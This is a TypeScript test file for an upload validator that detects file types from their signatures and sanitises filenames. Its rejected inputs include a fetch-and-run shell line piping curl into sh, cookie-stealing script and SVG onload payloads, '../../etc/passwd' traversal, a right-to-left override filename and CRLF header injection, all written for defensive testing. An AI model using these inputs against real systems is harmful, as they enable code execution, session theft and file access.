import { randomBytes } from 'node:crypto';
import { detectContentType, safeFilename } from './content-type';
import { docx, elf, ole2, opendocument, pdf, png, windowsExe, zip } from './testing/fixtures';

const extensionOf = (head: Buffer, name?: string) => detectContentType(head, name)?.extension ?? null;

describe('detectContentType', () => {
  it('recognises PDF and the raster images from their signatures', () => {
    expect(detectContentType(pdf())).toEqual({ contentType: 'application/pdf', extension: 'pdf', kind: 'pdf' });
    expect(detectContentType(png())).toEqual({ contentType: 'image/png', extension: 'png', kind: 'image' });
    expect(extensionOf(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]))).toBe('jpg');
    expect(extensionOf(Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'))).toBe('gif');
    expect(extensionOf(Buffer.from('GIF87a\x01\x00\x01\x00', 'latin1'))).toBe('gif');
    expect(extensionOf(Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1'))).toBe('webp');
    expect(extensionOf(Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'))).toBeNull();
  });

  it('tells Office Open XML documents apart by their part folders', () => {
    expect(detectContentType(docx())).toEqual({ contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', extension: 'docx', kind: 'office' });
    expect(extensionOf(zip([['[Content_Types].xml', '<Types/>'], ['xl/workbook.xml', '<workbook/>']]))).toBe('xlsx');
    expect(extensionOf(zip([['_rels/.rels', '<Relationships/>'], ['ppt/presentation.xml', '<p/>']]))).toBe('pptx');
  });

  it('reads the type of OpenDocument files from their mimetype entry', () => {
    expect(detectContentType(opendocument('application/vnd.oasis.opendocument.text'))?.extension).toBe('odt');
    expect(detectContentType(opendocument('application/vnd.oasis.opendocument.spreadsheet'))).toEqual({
      contentType: 'application/vnd.oasis.opendocument.spreadsheet',
      extension: 'ods',
      kind: 'opendocument',
    });
    expect(extensionOf(opendocument('application/vnd.oasis.opendocument.presentation'))).toBe('odp');
    // Drawings, templates and other packages are not on the list.
    expect(extensionOf(opendocument('application/vnd.oasis.opendocument.graphics'))).toBeNull();
    expect(extensionOf(opendocument('application/vnd.oasis.opendocument.text-template'))).toBeNull();
    expect(extensionOf(opendocument('application/epub+zip'))).toBeNull();
  });

  it('refuses other ZIP archives (a JAR, a plain archive)', () => {
    expect(extensionOf(zip([['META-INF/MANIFEST.MF', 'Main-Class: Payload\n'], ['Payload.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe])]]))).toBeNull();
    expect(extensionOf(zip([['word/document.xml', '<w/>']]))).toBeNull(); // part folder without a package manifest
    expect(extensionOf(zip([['notas.txt', 'hola']]))).toBeNull();
  });

  describe('OLE2 (Word/Excel/PowerPoint 97-2003)', () => {
    it('decides doc, xls or ppt from the streams at the root of the directory', () => {
      expect(detectContentType(ole2(['WordDocument', '1Table']))).toEqual({ contentType: 'application/msword', extension: 'doc', kind: 'office' });
      expect(detectContentType(ole2(['Workbook']))).toEqual({ contentType: 'application/vnd.ms-excel', extension: 'xls', kind: 'office' });
      expect(detectContentType(ole2(['Current User', 'PowerPoint Document']))).toEqual({ contentType: 'application/vnd.ms-powerpoint', extension: 'ppt', kind: 'office' });
    });

    it('uses the root class id when it names an Office format', () => {
      expect(extensionOf(ole2([], '00020906-0000-0000-C000-000000000046'))).toBe('doc');
      expect(extensionOf(ole2([], '00020820-0000-0000-C000-000000000046'))).toBe('xls');
      expect(extensionOf(ole2([], '64818D10-4F9B-11CF-86EA-00AA00B929E8'))).toBe('ppt');
    });

    it('refuses Windows Installer packages and other compound files, whatever their name', () => {
      expect(extensionOf(ole2(['WordDocument'], '000C1084-0000-0000-C000-000000000046'), 'setup.doc')).toBeNull();
      expect(extensionOf(ole2(['__substg1.0_0037001F', '__properties_version1.0']), 'mensaje.doc')).toBeNull();
    });

    it('falls back to the name among doc, xls and ppt only when the directory is beyond the first bytes', () => {
      const headerOnly = ole2([], undefined, true);
      expect(extensionOf(headerOnly, 'Informe anual 2023.DOC')).toBe('doc');
      expect(extensionOf(headerOnly, 'datos.xls')).toBe('xls');
      expect(extensionOf(headerOnly, 'taller.ppt')).toBe('ppt');
      expect(extensionOf(headerOnly, 'instalador.msi')).toBeNull();
      expect(extensionOf(headerOnly, 'informe.pdf')).toBeNull();
      expect(extensionOf(headerOnly)).toBeNull();
      // A stream name visible in the head decides before the name does.
      expect(extensionOf(Buffer.concat([headerOnly, Buffer.from('Workbook\0', 'utf16le')]), 'x.doc')).toBe('xls');
    });
  });

  describe('CSV', () => {
    it('accepts UTF-8 text whose first line separates values', () => {
      expect(detectContentType(Buffer.from('país;año;matrícula\nHonduras;2023;1820000\nBelice;2023;98000\n'))).toEqual({ contentType: 'text/csv', extension: 'csv', kind: 'csv' });
      expect(extensionOf(Buffer.from('\uFEFFcountry,year\r\nJamaica,2022\r\n'))).toBe('csv');
      expect(extensionOf(Buffer.from('nombre\tpaís\nAna Quispe\tPerú\n'))).toBe('csv');
    });

    it('tolerates a character cut in two at the end of the head', () => {
      const text = Buffer.from('escuela,región\nSan José,Cañar\n');
      const cut = text.subarray(0, text.indexOf('ñ', 0, 'utf8') + 1); // first byte of ñ only
      expect(extensionOf(cut)).toBe('csv');
    });

    it('refuses text that is not UTF-8, holds NUL or control bytes, or has no separated first line', () => {
      expect(extensionOf(Buffer.from('país;año\nPerú;2023\n', 'latin1'))).toBeNull();
      expect(extensionOf(Buffer.from('a,b\n1,\u00002\n'))).toBeNull();
      expect(extensionOf(Buffer.from('a,b\n\u001b[31m1,2\n'))).toBeNull();
      expect(extensionOf(Buffer.from('solo una línea de texto sin separadores\n'))).toBeNull();
      expect(extensionOf(Buffer.from(''))).toBeNull();
    });

    it('refuses HTML and SVG, even when they contain commas', () => {
      expect(extensionOf(Buffer.from('<!DOCTYPE html><html><body>a,b</body></html>'))).toBeNull();
      expect(extensionOf(Buffer.from('  <html>\n<script>alert(1)</script>,x'))).toBeNull();
      expect(extensionOf(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">,</svg>'))).toBeNull();
      expect(extensionOf(Buffer.from('<?xml version="1.0"?>,<svg/>'))).toBeNull();
      expect(extensionOf(Buffer.from('a,b\n<script>alert(document.cookie)</script>\n'))).toBeNull();
    });
  });

  it('refuses executables whatever their name, and random bytes', () => {
    expect(detectContentType(windowsExe(), 'informe.pdf')).toBeNull();
    expect(detectContentType(elf(), 'informe.pdf')).toBeNull();
    expect(detectContentType(Buffer.from('#!/bin/sh\ncurl -s https://example.org/x,y | sh\n'), 'datos.csv')).toBeNull(); // first line has no separator
    const noise = randomBytes(4096);
    noise[0] = 0x00; // no known signature
    expect(detectContentType(noise)).toBeNull();
  });
});

describe('safeFilename', () => {
  it('keeps the readable name and puts the detected extension', () => {
    expect(safeFilename('Evaluación de aprendizajes – Perú 2023.pdf', 'pdf')).toBe('Evaluación de aprendizajes – Perú 2023.pdf');
    expect(safeFilename('informe.exe', 'pdf')).toBe('informe.pdf');
    expect(safeFilename('datos', 'csv')).toBe('datos.csv');
  });

  it('drops folders, quotes, control and bidirectional characters', () => {
    expect(safeFilename('C:\\Users\\ana\\..\\plan "final".docx', 'docx')).toBe('plan final.docx');
    expect(safeFilename('../../etc/passwd', 'csv')).toBe('passwd.csv');
    expect(safeFilename('factura\u202Egpj.exe', 'pdf')).toBe('facturagpj.pdf');
    expect(safeFilename('a\r\nContent-Type: text/html.pdf', 'pdf')).toBe('aContent-Type texthtml.pdf');
  });

  it('falls back to "file" and bounds the length', () => {
    expect(safeFilename(undefined, 'png')).toBe('file.png');
    expect(safeFilename('...', 'png')).toBe('file.png');
    expect(safeFilename(`${'á'.repeat(400)}.pdf`, 'pdf')).toBe(`${'á'.repeat(150)}.pdf`);
  });
});
